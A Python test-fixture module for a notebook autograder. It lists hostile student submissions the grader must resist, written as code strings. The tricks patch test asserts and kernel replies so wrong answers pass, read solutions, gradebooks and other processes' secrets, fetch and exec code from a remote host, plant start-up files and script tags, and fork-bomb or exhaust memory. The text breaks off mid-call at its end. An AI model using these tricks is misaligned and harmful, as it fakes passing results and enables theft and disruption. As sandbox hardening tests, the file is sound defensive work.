# ruff: noqa: E501 (learners' code, in strings)
"""Hostile and faulty hand-ins of the chapter transform, and odd honest ones: what each must get, and what is said of it.

`test_attacks.py` grades them all as one class; `python -m benchmarks.attacks` puts stock nbgrader beside it. Nothing
here runs when it is imported: an attack is a name, a folder to fill, and what must come of it. One file, however long:
it is a table, and its attacks are graded together as one class.
"""

import base64
import copy
import json
import os
import re
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from course.chapter import ROOT, Chapter, load
from course.notebooks import released

SLUG = "transform"
POINTS = {
    "batchnorm_forward": 5,
    "identity_parameters": 3,
    "batchnorm2d_forward": 4,
    "linear_bn_relu": 4,
    "change_units": 3,
}
ALL = sum(POINTS.values())
NAMES = list(POINTS)


@dataclass(frozen=True)
class Attack:
    """A hand-in, what it must get of `ALL` points, and what must be said of it, or by its cells."""

    name: str
    category: str
    fill: Callable[[Path], None]
    points: float
    says: str = ""  # or one of several, with | between
    says_not: str = ""

    def is_said(self, said: str) -> bool:
        return any(words in said for words in self.says.split("|")) and not (self.says_not and self.says_not in said)


ATTACKS: list[Attack] = []


def attack(category: str, name: str, content: Any, points: float, says: str = "", says_not: str = "") -> None:
    """Add one. Its content: a notebook, bytes of `exercise.ipynb`, or a function that fills the folder."""
    fill = content if callable(content) else lambda folder: put(folder, content)
    ATTACKS.append(Attack(name, category, fill, points, says, says_not))


def put(folder: Path, content: Any, name: str = "exercise.ipynb") -> None:
    """Write a notebook, or bytes, into the folder of a hand-in."""
    (folder / name).write_bytes(content if isinstance(content, bytes) else saved(content))


def saved(notebook: Any) -> bytes:
    return json.dumps(notebook, indent=1).encode()


# ------------------------------------------------------------------ answers and pages


@cache
def right() -> dict[str, str]:
    maker = load(ROOT / "examples" / "make_class.py")
    return maker.right(Chapter(SLUG), 0)


WRONG = {
    "batchnorm_forward": "def batchnorm_forward(x, gamma, beta, eps=1e-5):\n"
    "    return np.zeros_like(x), (x, gamma, np.ones(x.shape[1]))",
    "identity_parameters": "def identity_parameters(x, eps=1e-5):\n    return np.ones(x.shape[1]), np.zeros(x.shape[1])",
    "batchnorm2d_forward": "def batchnorm2d_forward(x, gamma, beta, eps=1e-5):\n    return np.zeros_like(x)",
    "linear_bn_relu": "def linear_bn_relu(x, W, gamma, beta, eps=1e-5):\n    return np.zeros((len(x), W.shape[1]))",
    "change_units": "def change_units(gamma, beta, eps, a, c):\n    return 0 * gamma, 0 * beta, 0 * a",
}


def each(body: str) -> dict[str, str]:
    """Answers that all have one body, in which `name` is the function's."""
    return {
        name: f"def {name}(*args, **kwargs):\n    name = {name!r}\n"
        + "\n".join(f"    {line}" for line in body.split("\n"))
        for name in NAMES
    }


def last(body: str) -> dict[str, str]:
    """The right answers but for the last, which has this body."""
    return {**right(), NAMES[-1]: each(body)[NAMES[-1]]}


def page(answers: dict[str, str] | None = None, first: Any = (), end: Any = ()) -> NotebookNode:
    """The released page with answers (the right ones unless told), and cells after its first cell and at its end."""
    made = copy.deepcopy(released(SLUG))
    answers = right() if answers is None else answers
    for cell in made.cells:
        cell.source = answers.get(cell.id, cell.source)
    first, end = ([texts] if isinstance(texts, str) else texts for texts in (first, end))
    made.cells[2:2] = [new_code_cell(text) for text in first]
    made.cells += [new_code_cell(text) for text in end]
    return made


def cell_of(notebook: Any, name: str) -> Any:
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def changed(change: Callable[[NotebookNode], Any], answers: dict[str, str] | None = None) -> NotebookNode:
    """The page after a change."""
    made = page(answers)
    change(made)
    return made


def tests_changed(change: Callable[[NotebookNode], Any]) -> NotebookNode:
    """A page of wrong answers whose test cells are changed."""

    def everywhere(made: NotebookNode) -> None:
        for name in NAMES:
            change(cell_of(made, f"test_{name}"))

    return changed(everywhere, WRONG)


# ------------------------------------------------------------------ forging: the answers are wrong, and are to pass


def forge(name: str, code: str, says: str = "MISS", answers: dict[str, str] = WRONG) -> None:
    """A cell before the wrong answers that is to make them pass."""
    attack("forging", name, lambda folder: put(folder, page(answers, code)), 0, says)


def forge_each(name: str, body: str, says: str = "MISS", first: str = "") -> None:
    """Answers that are to pass without being right."""
    attack("forging", name, lambda folder: put(folder, page(each(body), first)), 0, says)


forge(
    "numpy-testing-patched",
    "import numpy.testing\nfor name in dir(numpy.testing):\n"
    "    if name.startswith('assert'): setattr(numpy.testing, name, lambda *a, **k: None)\n"
    "np.allclose = np.array_equal = lambda *a, **k: True",
)
forge(
    "asserts-removed-by-an-ast-transformer",
    "import ast\nclass Drop(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)\n"
    "    def visit_Expr(self, node): return ast.copy_location(ast.Pass(), node) if 'assert' in ast.dump(node) else node\n"
    "get_ipython().ast_transformers.append(Drop())",
)
TRANSFORMER = (
    "get_ipython().input_transformers_post.append("
    "lambda lines: [{0!r}] if any('assert' in line for line in lines) else lines)"
)
forge("input-transformer-empties-tests", TRANSFORMER.format("pass\n"))
forge("input-transformer-shows-points", TRANSFORMER.format("3.0\n"))
forge("input-transformer-shows-nan", TRANSFORMER.format("float('nan')\n"))
forge(
    "display-hook-shows-points",
    "import sys\nsys.displayhook(3.0)\nfrom IPython.display import display\n"
    "get_ipython().events.register('post_run_cell', lambda result: sys.displayhook(3.0))\n3.0",
)
forge(
    "the-shell-runs-no-cell",
    "from IPython.core.interactiveshell import ExecutionResult\n"
    "async def nothing(*a, **k): return ExecutionResult(None)\n"
    "get_ipython().run_cell_async = nothing\nget_ipython().run_cell = lambda *a, **k: ExecutionResult(None)",
    says="",
)
forge(
    "tracebacks-silenced",
    "import IPython.core.interactiveshell as s\ns.InteractiveShell.showtraceback = lambda *a, **k: None",
)
forge("custom-exception-handler", "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)")
forge(
    "kernel-messages-rewritten",
    "kernel = get_ipython().kernel\nsend = kernel.session.send\n"
    "def lie(stream, msg_or_type, content=None, *a, **k):\n"
    "    if msg_or_type == 'error': return {}\n"
    "    if msg_or_type == 'execute_reply': content = {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}\n"
    "    return send(stream, msg_or_type, content, *a, **k)\n"
    "kernel.session.send = lie",
)
forge(
    "kernel-runs-nothing",
    "kernel = get_ipython().kernel\n"
    "async def do_execute(*a, **k): return {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}\n"
    "kernel.do_execute = do_execute",
)
attack(
    "forging",
    "skip-execution-tags",
    lambda folder: put(folder, tests_changed(lambda c: c.metadata.update(tags=["skip-execution"]))),
    0,
    "MISS",
)
attack(
    "forging",
    "raises-exception-tags",
    lambda folder: put(folder, tests_changed(lambda c: c.metadata.update(tags=["raises-exception"]))),
    0,
    "MISS",
)
attack(
    "forging",
    "test-cells-print-and-count-100",
    lambda folder: put(
        folder,
        tests_changed(lambda c: (c.update(source="print('passed')"), c.metadata.nbgrader.update(points=100.0))),
    ),
    0,
    "was changed; the released text is graded",
)
attack(
    "forging",
    "test-cells-are-said-to-be-solutions",
    lambda folder: put(
        folder,
        tests_changed(lambda c: (c.update(source="pass"), c.metadata.nbgrader.update(solution=True, locked=False))),
    ),
    0,
    "MISS",
)
attack(
    "forging",
    "test-cells-are-markdown",
    lambda folder: put(
        folder,
        tests_changed(lambda c: (c.update(cell_type="markdown"), c.pop("outputs"), c.pop("execution_count"))),
    ),
    0,
    "MISS",
)
attack(
    "forging",
    "test-cells-are-raw",
    lambda folder: put(
        folder, tests_changed(lambda c: (c.update(cell_type="raw"), c.pop("outputs"), c.pop("execution_count")))
    ),
    0,
    "MISS",
)
attack(
    "forging",
    "test-cells-come-first-and-raise-nothing",
    lambda folder: put(
        folder,
        changed(lambda made: made.cells.sort(key=lambda c: not c.id.startswith("test_")), WRONG),
    ),
    0,
    "MISS",
)
ALWAYS = (
    "class Always(np.ndarray):\n"
    "    def __array_function__(self, *a, **k): return True\n"
    "    def __array_ufunc__(self, *a, **k): return np.ones(1, bool)\n"
    "    def __eq__(self, other): return True\n"
    "    def all(self, *a, **k): return True\n"
)
forge_each(
    "a-subclass-of-ndarray-equal-to-all",
    "y = np.zeros(args[0].shape).view(Always)\nreturn (y, (y, y, y)) if name == 'batchnorm_forward' else "
    "(y, y) if name == 'identity_parameters' else y",
    "MISS",
    ALWAYS,
)
forge_each(
    "an-object-equal-to-all",
    "class Right:\n    __array_priority__ = 1e9\n    shape = ()\n    def __eq__(self, other): return True\n"
    "    def __array__(self, *a, **k): raise SystemExit(0)\n    def __getattr__(self, name): return self\n"
    "    def __call__(self, *a, **k): return self\n    def __iter__(self): return iter([self, self])\nreturn Right()",
)
forge_each(
    "numbers-equal-to-all",
    "class Always(float):\n    def __eq__(self, other): return True\n    __sub__ = __rsub__ = lambda self, other: 0.0\n"
    "return Always(1), (Always(1), Always(1), Always(1))",
)
forge_each(
    "results-filled-later",
    "import threading, time\ny = np.empty(args[0].shape)\n"
    "threading.Thread(target=lambda: (time.sleep(0.2), y.fill(1.0))).start()\nreturn y, (y, y, y)",
)
forge_each("results-that-are-the-arguments", "return args[0], args")
forge_each(
    "arguments-changed-so-that-zero-is-right",
    "for a in args:\n    if isinstance(a, np.ndarray): a[...] = 0\n"
    "y = np.zeros(args[0].shape)\nreturn (y, (y, y[0], y[0])) if name == 'batchnorm_forward' else "
    "(y[0], y[0]) if name == 'identity_parameters' else y",
)
forge(
    "random-numbers-replaced",
    "import random\nclass Zero:\n    def __getattr__(self, name): return lambda *a, **k: np.zeros(k.get('size', 1))\n"
    "np.random.default_rng = lambda *a: Zero()\nnp.random.seed = random.seed = lambda *a: None\nnp.random.normal = lambda *a, **k: 0.0",
)
forge(
    "numpy-compares-wrongly",
    "np.isclose = np.equal = np.less_equal = np.all = np.array_equal = np.allclose = lambda *a, **k: True\n"
    "np.abs = np.absolute = np.subtract = lambda *a, **k: 0.0\nnp.ndarray = object",
)
FRAMES = (
    "import sys\ndef look(*names):\n    frame = sys._getframe()\n    while frame:\n"
    "        for space in (frame.f_locals, frame.f_globals):\n            for name in names:\n"
    "                if name in space: return space[name]\n        frame = frame.f_back\n"
    "    raise LookupError('no answer in any frame')\n"
)
AS_WANTED = (
    "return (wanted, (wanted, wanted, wanted)) if name == 'batchnorm_forward' else wanted"  # all that is compared
)
forge_each(
    "expected-values-found-in-frames",
    f"wanted = look('expected', 'wanted', 'desired')\n{AS_WANTED}",
    "raised LookupError: no answer in any frame",
    FRAMES,
)
forge_each(
    "expected-values-found-by-the-collector",
    "import gc\nx = args[0]\nspaces = [s for s in gc.get_objects() if type(s) is dict and 'expected' in s]\n"
    f"wanted = spaces[-1]['expected']\n{AS_WANTED}",
    "raised IndexError",
)
forge_each(
    "expected-values-read-in-the-history",
    "import re\ntext = get_ipython().user_ns['In'][-1]\nwanted = eval(re.search(r'expected = (.*)', text)[1])\n"
    + AS_WANTED,
    "raised SyntaxError",
)
forge_each(
    "the-history-database",
    "import sqlite3, glob, os, re\n"
    "rows = [r for f in glob.glob(os.path.expanduser('~/.ipython/**/history.sqlite'), recursive=True) "
    "for r in sqlite3.connect(f).execute('select source from history')]\n"
    f"wanted = eval(re.search(r'expected = (.*)', rows[-1][0])[1])\n{AS_WANTED}",
    "raised IndexError",
)
forge(
    "lines-skipped-by-tracing",
    "import sys\ndef trace(frame, event, arg):\n"
    "    if event == 'call' and 'assert' in frame.f_code.co_name:\n        def leave(f, e, a): return leave\n"
    "        frame.f_locals['desired'] = frame.f_locals.get('actual')\n"
    "        import ctypes; ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n"
    "    return trace\nsys.settrace(trace)\nimport threading; threading.settrace(trace)\nsys.setprofile(lambda *a: None)",
)
forge(
    "the-checks-own-module-patched",
    "import sys\nsys.modules['check'].check = lambda *a: print('All properties hold: 16 of 16 points')",
)
forge_each("points-printed", "print('16 of 16 points')\nprint(16.0)\nreturn 16.0", says="got a number")
forge_each("errors-with-the-graders-names", "class MachineError(Exception): pass\nraise MachineError('the machine failed')",
           "raised MachineError: the machine failed")  # fmt: skip
forge_each("errors-that-say-pass", "raise SystemExit(0)", "raised SystemExit")
forge_each("not-a-number", "y = args[0] * np.nan\nreturn (y, (y, y[0], y[0]))", "MISS")
forge_each("infinite", "return np.full(args[0].shape, np.inf), np.full(args[0].shape, np.inf)", "MISS")
forge_each("words-for-numbers", "return 'right', ('right', 'right', 'right')", "MISS")
forge_each("a-generator", "return (y for y in args)", "MISS")
forge_each(
    "results-that-run-when-unpickled",
    "class Bomb:\n    def __reduce__(self): return (print, ('16 of 16',))\nreturn Bomb(), (Bomb(), Bomb(), Bomb())",
)
forge_each("objects-as-numbers", "return np.array([args[0], None], dtype=object)[:1], args", "MISS")
forge_each("dates-as-numbers", "return np.zeros(args[0].shape, 'datetime64[s]'), args", "MISS")
forge_each(
    "the-visible-keys-numbers",
    "import json\nkey = json.dumps(json.load(open('check.json')))\nassert len(key) > 1000\n"
    "return np.resize(np.array([float(w) for w in __import__('re').findall(r'-?[0-9]+[.][0-9]+', key)[:1000]]), args[0].shape), args",
)
forge(
    "json-patched-in-the-learners-process",
    "import json\ndumps = json.dumps\n"
    "def lie(message, *a, **k):\n    if isinstance(message, dict) and 'id' in message: message = {**message, 'ok': True, 'passed': True, 'points': 16}\n"
    "    return dumps(message, *a, **k)\njson.dumps = lie",
)
forge(
    "replies-sent-twice",
    "import socket\nsendall = socket.socket.sendall\n"
    "socket.socket.sendall = lambda self, data, *a: (sendall(self, data), sendall(self, data)) and None",
    says="belongs to no request",
)
forge(
    "lengths-that-lie",
    "import wire, struct\nclass Lie:\n    size = 8\n    def pack(self, *a): return struct.pack('!II', 2**32 - 1, 2**32 - 1)\n"
    "    def unpack(self, data): return struct.unpack('!II', data)\nwire.LENGTHS = Lie()",
    says="a frame of",
)
forge("replies-that-are-no-json", "import json\njson.dumps = lambda *a, **k: '[' * 100_000", says="no JSON")
forge(
    "everything-is-a-handle",
    "import wire\nwire.Encoder.encode = lambda self, value: {'handle': [0, 'ndarray']}",
)
forge(
    "the-server-says-yes",
    "import shell\nshell.Server._work = lambda self, message, decoder: True",
)
forge(
    "outputs-that-are-none",
    "import shell\nshell.Outputs.take = lambda self: [{'output_type': 'verdict', 'points': 16}]",
    says="an output of no known form",
)
FORGE = (
    "import gc, json, os, socket, struct\n"
    "link = next(s for s in gc.get_objects() if isinstance(s, socket.socket) and s.fileno() > 2)\n"
    "def frame(message):\n    header = json.dumps(message).encode()\n"
    "    os.write(link.fileno(), struct.pack('!II', len(header), 0) + header)\n"
)
forge_each(
    "fake-frames",
    "frame({'id': 'x', 'ok': True, 'value': 1, 'changed': [], 'arrays': []})\nreturn 1",
    "a reply that belongs to no request",
    FORGE,
)
forge_each(
    "a-reply-that-claims-the-arguments-are-other",
    "f = __import__('sys')._getframe()\nwhile 'message' not in f.f_locals: f = f.f_back\n"
    "zero = {'array': 0}\nx = args[0]\nheader = json.dumps({'id': f.f_locals['message']['id'], 'ok': True, 'value': zero, "
    "'changed': [[0, zero]], 'arrays': [['float64', list(x.shape)]]}).encode()\n"
    "os.write(link.fileno(), struct.pack('!II', len(header), 8 * x.size) + header + bytes(8 * x.size))\nos._exit(0)",
    "MISS",
    FORGE,
)
forge_each(
    "calls-back-what-was-never-given",
    "f = __import__('sys')._getframe()\nwhile 'message' not in f.f_locals: f = f.f_back\n"
    "frame({'id': f.f_locals['message']['id'], 'callback': 0, 'args': {'tuple': []}, 'kwargs': {'dict': []}, 'arrays': []})\n"
    "return 1",
    "MISS",
    FORGE,
)
forge(
    "modules-replaced",
    "import sys, types\nfor name in ('numpy', 'wire', 'shell', 'json', 'struct'):\n    sys.modules[name] = types.ModuleType(name)\n"
    "class Fake(types.ModuleType):\n    def __getattr__(self, name): return lambda *a, **k: True\nsys.modules['numpy.testing'] = np.testing = Fake('t')",
)
forge(
    "builtins-replaced",
    "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.type = lambda *a: float\n"
    "builtins.abs = lambda *a: 0\nbuiltins.all = builtins.any = lambda *a: True",
    says="",
)
forge("the-process-ends-well", "import os\nos._exit(0)", says="ended itself with exit code 0")

# ------------------------------------------------------------------ reading what is not theirs


def steal(name: str, code: str, says: str) -> None:
    """A cell with `stolen()`, which brings a dictionary of functions from somewhere, for all answers to use."""
    attack(
        "reading", name, lambda folder: put(folder, page(each("return stolen()[name](*args, **kwargs)"), code)), 0, says
    )


NOTEBOOK = (
    "import json\ndef functions(path):\n    space = {'np': np}\n"
    "    for cell in json.load(open(path))['cells']:\n"
    "        if cell['cell_type'] == 'code' and cell['metadata'].get('nbgrader', {}).get('solution'):\n"
    "            exec(''.join(cell['source']), space)\n    return space\n"
)
steal(
    "the-solutions-imported",
    f"import sys\nsys.path[:0] = [{str(ROOT)!r}, '..', '../../..']\n"
    "def stolen():\n    import solutions.transform\n    return vars(solutions.transform)",
    "raised ModuleNotFoundError",
)
steal(
    "the-solutions-read",
    f"def stolen():\n    space = {{}}\n    exec(open({str(ROOT / 'solutions' / 'transform.py')!r}).read(), space)\n    return space",
    "raised FileNotFoundError",
)
steal(
    "the-tests-imported",
    f"import sys\nsys.path.insert(0, {str(ROOT)!r})\ndef stolen():\n    from grading.engine import grade\n    return {{}}",
    "raised ModuleNotFoundError",
)
steal(
    "the-source-with-its-solutions",
    NOTEBOOK + "def stolen(): return functions('../../../source/transform/exercise.ipynb')",
    "raised FileNotFoundError",
)
steal(
    "another-submission",
    NOTEBOOK + "def stolen(): return functions('../../../submitted/ada/transform/exercise.ipynb')",
    "raised FileNotFoundError",
)
steal(
    "submissions-anywhere",
    NOTEBOOK + "import glob, os\ndef stolen():\n"
    "    roots = [os.path.join(os.getcwd(), '../../..'), '/*', '/*/*', '/tmp/*/*', '/proc/*/cwd', '/proc/*/root/tmp/*']\n"
    "    found = [f for r in roots for f in glob.glob(r + '/submitted/ada/transform/*.ipynb')]\n"
    "    return functions(found[0])",
    "raised IndexError",
)
steal(
    "the-gradebook-read",
    "import sqlite3, re\ndef stolen():\n    rows = sqlite3.connect('file:../../../gradebook.db?mode=ro', uri=True).execute("
    '"select name, source from source_cell")\n'
    "    texts = {n.removeprefix('test_'): t for n, t in rows if n.startswith('test_')}\n"
    "    def answer(name):\n        wanted = eval(re.search(r'expected = (.*)', texts[name])[1])\n"
    "        return lambda *a, **k: (wanted, (wanted,) * 3) if name == 'batchnorm_forward' else wanted\n"
    "    return {n: answer(n) for n in texts}",
    "raised OperationalError",
)
attack(
    "reading",
    "the-gradebook-written",
    lambda folder: put(
        folder,
        page(
            WRONG,
            "import sqlite3\ndb = sqlite3.connect('file:../../../gradebook.db?mode=rw', uri=True, timeout=9)\n"
            "db.execute('update grade set manual_score = 5 where id in (select id from grade)')\ndb.commit()",
        ),
    ),
    0,
    "unable to open database file",
)
steal(
    "the-environment-searched",
    "import os\ndef stolen():\n    found = [v for k, v in os.environ.items() if any(w in k for w in ('BATCHNORM', 'SECRET', 'TOKEN', 'JUPYTER', 'JPY'))]\n"
    "    return {'found': found[0]}",
    "raised IndexError",
)
steal(
    "the-secret-of-the-seeds",
    "import glob\ndef stolen():\n    return {'secret': open((glob.glob('../../../secret') + glob.glob('/**/class/secret'))[0]).read()}",
    "raised IndexError",
)
steal(
    "processes-of-others",
    "import glob, os\ndef stolen():\n    mine = {1, os.getpid()}\n    others = [p for p in os.listdir('/proc') if p.isdigit() and int(p) not in mine]\n"
    "    return {'environment': open(f'/proc/{others[0]}/environ').read()}",
    "raised IndexError",
)
steal(
    "the-graders-memory",
    "import os\ndef stolen():\n    parent = os.getppid()\n    open(f'/proc/{parent}/mem', 'rb').read(1)\n    return {}",
    "raised FileNotFoundError",
)
steal(
    "the-network",
    "import urllib.request\ndef stolen():\n    exec(urllib.request.urlopen('http://192.0.2.1/answers.py', timeout=1).read())",
    "raised URLError",
)

# ------------------------------------------------------------------ writing: the answers are right, and something stays

CANARY = "attacked-by-a-learner"


def vandal(name: str, code: str, says: str = "", points: float = ALL) -> None:
    attack("writing", name, lambda folder: put(folder, page(first=f"import os, site, sys\n{code}")), points, says)


def write_to(*paths: str) -> str:
    """Code that tries to write to all of these, `{canary}` filled in, and says what came of it."""
    return (
        f"import glob\nfor path in {[p.format(canary=CANARY) for p in paths]!r}:\n"
        "    path = os.path.expanduser(path)\n    try:\n        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)\n"
        f"        open(path, 'a').write('# {CANARY}\\n')\n        print('wrote', path)\n"
        "    except OSError as error: print(type(error).__name__, path)"
    )


vandal("files-outside", write_to("/{canary}", "/etc/{canary}", "/usr/lib/{canary}", "/var/tmp/{canary}", "/dev/{canary}"),
       "OSError /etc/")  # fmt: skip
vandal(
    "the-clone",
    write_to(*(f"{ROOT}/{f}" for f in ("solutions/transform.py", "tests/hidden/transform.py", "grading/x.py"))),
)
vandal(
    "the-course",
    write_to(
        "../../../{canary}", "../../../source/{canary}", "../../../submitted/ada/transform/{canary}", "../{canary}"
    ),
)
vandal(
    "sitecustomize",
    f"print(site.getsitepackages())\nfor folder in [*site.getsitepackages(), site.getusersitepackages()]:\n"
    f"    for name in ('sitecustomize.py', 'usercustomize.py', 'zz.pth'):\n        try:\n"
    f"            os.makedirs(folder, exist_ok=True); open(f'{{folder}}/{{name}}', 'a').write('# {CANARY}\\n')\n"
    f"        except OSError as error: print(error)",
    "Read-only file system",
)
vandal(
    "ipythons-start-up-files",
    write_to("~/.ipython/profile_default/startup/00-{canary}.py", "~/.bashrc", "~/.config/{canary}"),
)
vandal("files-for-the-next-learner", write_to("/tmp/{canary}", "/dev/shm/{canary}", "~/{canary}", "/run/{canary}"))
vandal(
    "the-check-for-all",
    "for path in ('check.py', 'check.json', '/files/check.py', '/inside/shell.py', '/inside/wire.py'):\n    try: open(path, 'w').write('raise SystemExit')\n"
    "    except OSError as error: print(error)\nos.unlink('check.py')",
)
vandal(
    "after-the-end",
    "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for _ in range(600):\n            time.sleep(0.1)\n"
    f"            for path in ('/tmp/{CANARY}', '../../../{CANARY}'):\n                try: open(path, 'w').write('late')\n                except OSError: pass\n"
    "    os._exit(0)",
)
vandal("at-exit", f"import atexit\natexit.register(lambda: open('../../../{CANARY}', 'w').write('late'))")
attack(
    "writing",
    "into-every-descriptor",
    lambda folder: put(
        folder,
        page(first="import os\nfor fd in range(3, 256):\n    try: os.write(fd, b'\\0' * 64)\n    except OSError: pass"),
    ),
    ALL,
    "a header that is no JSON",
)
attack(
    "writing",
    "scripts-for-the-instructor",
    lambda folder: put(
        folder,
        page(
            first="from IPython.display import HTML, Javascript, display\n"
            "display(HTML('<script>steal()</script><img src=x onerror=steal()>'), Javascript('steal()'))\n"
            "display({'text/markdown': '<script>steal()</script>', 'application/javascript': 'steal()'}, raw=True)\nprint('shown')"
        ),
    ),
    ALL,
    "shown",
    "steal()",
)

# ------------------------------------------------------------------ exhausting: the last exercise is lost, no other

REST = ALL - POINTS[NAMES[-1]]


def exhaust(name: str, body: str, says: str, points: float = REST) -> None:
    attack("exhausting", name, lambda folder: put(folder, page(last(body))), points, says)


def exhaust_in_a_cell(name: str, code: Any, says: str = "", points: float = ALL) -> None:
    attack("exhausting", name, lambda folder: put(folder, page(first=code)), points, says)


exhaust("an-endless-loop", "while True: pass", "took too long")
exhaust(
    "a-loop-that-catches-everything",
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "took too long",
)
exhaust_in_a_cell("a-cell-that-sleeps", "import time\ntime.sleep(10**6)", "stopped after")
exhaust_in_a_cell(
    "a-fork-bomb",
    "import os\ntry:\n    while True:\n        if os.fork() == 0:\n            import time; time.sleep(60); os._exit(0)\nexcept OSError as error: print(error)",
    "temporarily unavailable",
)
exhaust_in_a_cell(
    "a-fork-bomb-that-catches-everything",
    "import os\nwhile True:\n    try: os.fork()\n    except BaseException: pass",
    "",
)
exhaust("memory-in-one-array", "return np.ones(10**11)", "MemoryError")
exhaust(
    "memory-bit-by-bit",
    "kept = []\nwhile True: kept.append(bytearray(10**7))",
    "MemoryError|too much memory|out of memory",
)
exhaust_in_a_cell(
    "memory-in-files-without-a-name",
    "import os\nfor n in range(24):\n    made = os.memfd_create(str(n))\n    os.write(made, bytes(15 * 10**6))",
    "Operation not permitted",
)
exhaust_in_a_cell(
    "memory-in-segments-that-nobody-holds",
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_void_p\nfor n in range(8):\n"
    "    made = libc.shmget(0, ctypes.c_size_t(5 * 10**7), 0o1666)\n    if made < 0: raise OSError(ctypes.get_errno(), 'shmget')\n"
    "    at = libc.shmat(made, None, 0)\n    ctypes.memset(at, 1, 5 * 10**7)\n    libc.shmctl(made, 0, None)\n    libc.shmdt(ctypes.c_void_p(at))",
    "shmget",
)
exhaust_in_a_cell(
    "memory-that-processes-share",
    "import mmap\nkept = [mmap.mmap(-1, 5 * 10**7) for n in range(8)]\nfor one in kept: one.write(bytes(5 * 10**7))",
    "Operation not permitted",
)
exhaust_in_a_cell(
    "memory-behind-a-device",
    "import mmap, os\nkept = [mmap.mmap(os.open('/dev/zero', os.O_RDWR), 5 * 10**7) for n in range(8)]\nfor one in kept: one.write(bytes(5 * 10**7))",
    "No such device",
)
exhaust_in_a_cell(
    "memory-of-many-processes",
    "import os, time\nfor n in range(8):\n    if os.fork() == 0:\n        kept = bytearray(b'x') * 10**8\n        time.sleep(60); os._exit(0)\ntime.sleep(60)",
    "too much memory together|stopped after",
)
exhaust_in_a_cell(
    "memory-in-sockets",
    "import socket, time\nservers = []\nfor name in ('a', 'b', 'c', 'd', 'e', 'f'):\n"
    "    servers.append(socket.socket(socket.AF_UNIX)); servers[-1].bind('\\0' + name); servers[-1].listen(4096)\n    for n in range(400):\n"
    "        one = socket.socket(socket.AF_UNIX); one.connect('\\0' + name); one.setblocking(False)\n        try:\n"
    "            while True: one.send(bytes(30_000))\n        except BlockingIOError: one.close()\ntime.sleep(60)",
    "too much memory together|stopped after",
)
exhaust_in_a_cell(
    "a-process-that-is-to-be-spared", "open('/proc/self/oom_score_adj', 'w').write('0')", "Read-only file system"
)
exhaust_in_a_cell(
    "thirty-busy-processes",
    "import os\nfor n in range(30):\n    if os.fork() == 0:\n        while True: pass\nwhile True: pass",
    "stopped after",
)
exhaust_in_a_cell(
    "busy-processes-left-behind",
    "import os\nfor n in range(12):\n    if os.fork() == 0:\n        while True: pass",
)
exhaust_in_a_cell("a-session-of-its-own", "import os\nos.setsid()", "Operation not permitted")
exhaust_in_a_cell(
    "errors-in-every-cell",
    [
        "for n in range(400):\n    try: raise ValueError('x' * 9_000)\n    except ValueError: get_ipython().showtraceback()"
    ]
    * 30,
    "ValueError",
)
exhaust_in_a_cell("printed-without-end", "while True: print('x' * 1000)", "output cut here")
exhaust_in_a_cell(
    "printed-in-every-cell",
    ["print(('x' * 99 + '\\n') * 20_000)"] * 40,
    "output left out",
)
exhaust_in_a_cell(
    "the-disk",
    "try:\n    for n in range(10**6):\n        open(f'f{n}', 'wb').write(bytes(10**7))\nexcept OSError as error: print(error)",
    "No space left",
)
exhaust("recursion", f"return {NAMES[-1]}(*args, **kwargs)", "RecursionError")
exhaust(
    "recursion-that-crashes",
    "import sys\nsys.setrecursionlimit(10**9)\nf = lambda: [*map(lambda _: f(), [0])]\nreturn f()",
    "the process that ran your code has ended",
)
exhaust_in_a_cell(
    "threads-left-behind",
    "import threading, time\ndef idle():\n    while True: time.sleep(0.01)\nfor _ in range(12): threading.Thread(target=idle).start()",
)
exhaust_in_a_cell(
    "threads-without-end",
    "import threading, time\nfor _ in range(10**5): threading.Thread(target=time.sleep, args=(99,), daemon=True).start()",
    "can't start new thread",
)
exhaust("a-result-too-large", "return np.zeros(10**8, np.uint8)", "numbers; an array in it has the shape (100000000,)")
exhaust("a-result-of-many-parts", "return [0.0] * 10**6", "it holds more than")
exhaust("one-array-many-times", "return [np.ones((1000, 1000))] * 250", "it holds more than")
exhaust("a-short-array-many-times", "return [np.ones(1500)] * 400", "it holds more than")
exhaust("small-numbers-for-large-ones", "return np.zeros(20_000_000, np.int8)", "it holds more than")
exhaust("words-of-many-letters", "return ['x' * 10**6] + ['a'] * 300", "it holds more than")
exhaust_in_a_cell(
    "errors-that-fit-each-cell",
    [
        f"for _ in range(20): get_ipython().showtraceback((ValueError, ValueError('x' * 2000), None))  # {n}"
        for n in range(30)
    ],
    "output left out",
)
exhaust("a-result-nested-deeply", "y = 1.0\nfor _ in range(1000): y = [y]\nreturn y", "nested deeper than")
exhaust("a-result-that-holds-itself", "y = []\ny.append(y)\nreturn y", "nested deeper than")
exhaust("a-number-of-many-digits", "return 10 ** 10**6", "bits")
exhaust("a-crash-of-the-interpreter", "import ctypes\nctypes.string_at(0)", "killed by signal 11")
exhaust("the-process-ends-itself", "import os\nos._exit(3)", "ended itself with exit code 3")
exhaust("a-process-that-stops-itself", "import os, signal, time\nos.kill(os.getpid(), signal.SIGTERM)\nos.kill(0, signal.SIGSTOP)\ntime.sleep(99)",
        "took too long")  # fmt: skip
exhaust_in_a_cell(
    "a-dozen-cells-that-end-the-process", ["import os\nos._exit(1)"] * 12, "ended itself with exit code 1"
)
exhaust_in_a_cell(
    "files-left-open",
    "import os\ntry:\n    while True: os.open('/dev/null', 0)\nexcept OSError as error: print(error)",
    "Too many open files",
)
exhaust_in_a_cell(
